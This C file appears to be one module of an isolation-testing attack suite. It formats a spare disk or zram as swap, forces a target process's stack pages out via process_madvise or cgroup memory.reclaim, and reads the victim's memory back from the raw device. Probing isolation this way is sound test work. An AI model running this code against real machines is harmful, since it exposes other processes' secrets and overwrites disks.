/*
 * swap.c - the victim's pages written to a swap area of the attacker's, and read there. For a disposable machine
 * with a spare disk (/dev/vda) or zram.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "arch.h"

#ifndef MADV_PAGEOUT
#define MADV_PAGEOUT 21
#endif

enum { PAGE = 4096, SETTLE_MS = 500, VERSION_AT = 1024, ROUNDS = 8, TRIES = 60, TRY_MS = 7 };
#define SIZE (32u << 20)

/* What mkswap writes. */
static int make_area(int fd)
{
	static unsigned char head[PAGE];
	uint32_t words[3] = { 1, SIZE / PAGE - 1, 0 }; /* version, last page, bad pages */

	memcpy(head + VERSION_AT, words, sizeof(words));
	memcpy(head + PAGE - 10, "SWAPSPACE2", 10);
	return pwrite(fd, head, sizeof(head), 0) == PAGE && fsync(fd) == 0 ? 0 : -errno;
}

static const char *area(void)
{
	if (access("/dev/vda", F_OK) == 0)
		return "/dev/vda";
	(void)put_text("/sys/block/zram0/disksize", "33554432");
	return access("/dev/zram0", F_OK) == 0 ? "/dev/zram0" : NULL;
}

/* The stack: what children share is not pushed out by one. */
static int push_out_by_advice(const struct attack *a)
{
	struct iovec there = { (void *)(uintptr_t)(a->target.stack & ~(PAGE - 1ULL)), PAGE };

	int pidfd = open_pidfd(a->target.pid, 0), failed = 0;

	for (int i = 0; i < TRIES && failed == 0; i++) {
		if (syscall(SYS_process_madvise, pidfd, &there, 1, MADV_PAGEOUT, 0) < 0)
			failed = -errno;
		moment(TRY_MS);
	}
	return failed;
}

/* Nobody is asked whose pages they are: the machine is to use less. */
static int push_out_by_cgroup(void)
{
	int failed = mount_own("cgroup2");

	if (failed < 0)
		return failed;
	for (int i = 0; i < ROUNDS; i++)
		failed = put_text(OWN_MOUNT "/memory.reclaim", "16M");
	return failed == -EAGAIN ? 0 : failed; /* that is: not as much as that */
}

/* number: by cgroup instead of by advice. */
static int read_swap(struct attack *a)
{
	const char *device = area();
	int fd = device == NULL ? -ENODEV : open_path(device, O_RDWR), result;

	if (fd < 0)
		return not_here(a, "no disk for a swap area");
	result = make_area(fd);
	if (result < 0 || swapon(device, 0) < 0)
		return result < 0 ? result : errno == EPERM ? -EPERM : not_here(a, "no swap");
	result = a->row->number ? push_out_by_cgroup() : push_out_by_advice(a);
	moment(SETTLE_MS);
	if (result == 0 && fsync(fd) == 0 && posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED) == 0)
		result = lseek(fd, 0, SEEK_SET) < 0 ? -errno : saw_file(a, fd);
	(void)swapoff(device);
	return result;
}

#define SWAP(id, says, how) \
	{ .name = id, .vector = "swap", .what = says, .run = read_swap, .number = how, .flags = EVERYBODY | HITS_MACHINE | MOUNTS }

const struct row swap_rows[] = {
	SWAP("swap_pageout", "pages pushed out by process_madvise, read from the device", 0),
	SWAP("swap_reclaim", "pages pushed out by memory.reclaim, read from the device", 1),
	{ 0 },
};
